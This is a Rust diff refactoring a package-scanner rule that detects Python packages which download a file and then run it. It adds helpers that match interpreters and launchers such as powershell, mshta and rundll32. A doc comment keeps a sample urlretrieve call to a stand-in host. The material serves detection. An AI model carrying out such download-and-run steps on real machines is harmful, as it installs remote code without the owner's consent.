@@ -25,7 +25,7 @@
 //! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
 //! ```
 
-use fondaco_python::{Api, Taint, Unit};
+use fondaco_python::{Api, Call, Taint};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
 
 use crate::{Hits, Package, Rule};
@@ -41,17 +41,64 @@ pub(crate) const RULE: Rule = Rule {
 };
 
 fn check(package: &Package<'_>, hits: &mut Hits) {
-    let fetches = |unit: &Unit| {
-        unit.calls.iter().any(|call| {
-            call.callee.ends_with("urlretrieve")
-                || call.callee == "wget.download"
-                || call.api == Some(Api::FileWrite) && call.taint().has(Taint::NETWORK)
-        })
-    };
-    for (unit, call) in package.calls() {
-        let runs = matches!(call.api, Some(Api::CodeExec | Api::Shell));
-        if runs && call.taint().has(Taint::WRITTEN) && fetches(unit) {
+    for (unit, call) in package.calls().filter(|(_, call)| runs_written(call)) {
+        let fetched = unit.calls.iter().filter(|other| {
+            is_saver(other) || other.api == Some(Api::FileWrite) && other.taint().has(Taint::NETWORK)
+        });
+        if fetched.into_iter().any(|write| is_same_file(write, call)) {
             hits.call(unit, call, "runs a file that it has downloaded");
         }
     }
+}
+
+fn is_saver(call: &Call) -> bool {
+    call.callee.ends_with(".urlretrieve") || call.callee == "wget.download"
+}
+
+/// The command itself, not its input or output, is a file that was written, or an interpreter
+/// with one. A known tool that gets one as its argument is none.
+pub(super) fn runs_written(call: &Call) -> bool {
+    if !matches!(call.api, Some(Api::CodeExec | Api::Shell)) || call.callee == "builtins.compile" {
+        return false;
+    }
+    let named = call.kwargs.iter().find(|(key, _)| key == "args").map(|(_, value)| value);
+    let Some(command) = call.args.first().or(named) else { return false };
+    match command.as_list() {
+        Some([program, rest @ ..]) => {
+            let script = rest.iter().any(|item| item.taint.has(Taint::WRITTEN));
+            match program.as_str() {
+                Some(text) => {
+                    program.taint.has(Taint::WRITTEN) || is_runner(text) && script
+                }
+                None => program.taint.has(Taint::WRITTEN) || program.name.is_some() && script,
+            }
+        }
+        _ => command.taint.has(Taint::WRITTEN) && command.texts().first().is_none_or(|text| is_runner(text)),
+    }
+}
+
+/// A command that begins with an interpreter, a starter or a path.
+fn is_runner(text: &str) -> bool {
+    const RUNNERS: [&str; 16] = [
+        "python", "python3", "pythonw", "sh", "bash", "/bin/sh", "/bin/bash", "powershell", "cmd", "start", "wscript", "node",
+        "chmod", "nohup", "mshta", "rundll32",
+    ];
+    let program = text.split_whitespace().next().unwrap_or_default().trim_end_matches(".exe").to_ascii_lowercase();
+    let is_path = program.contains(['/', '\\']) || text.starts_with(['.', '~', '%']) || text.contains(":\\");
+    let is_file = [".exe", ".bat", ".py", ".sh", ".ps1", ".vbs", ".pyw", ".cmd"].iter().any(|end| text.trim_end().ends_with(end));
+    let is_whole = !text.contains(' ');
+    RUNNERS.contains(&program.as_str()) || is_path || is_file && is_whole
+}
+
+/// Written and run in one function, or under one name.
+pub(super) fn is_same_file(write: &Call, run: &Call) -> bool {
+    let texts = run.texts();
+    let named = |path: &str| {
+        path.len() > 5
+            && path.len() < 512
+            && path.bytes().skip(1).any(|b| b == b'.')
+            && !path.contains("://")
+            && texts.iter().any(|text| *text == path || text.split([' ', '"', '\'']).any(|word| word == path))
+    };
+    write.function == run.function || write.args.iter().flat_map(|arg| arg.texts()).any(named)
 }
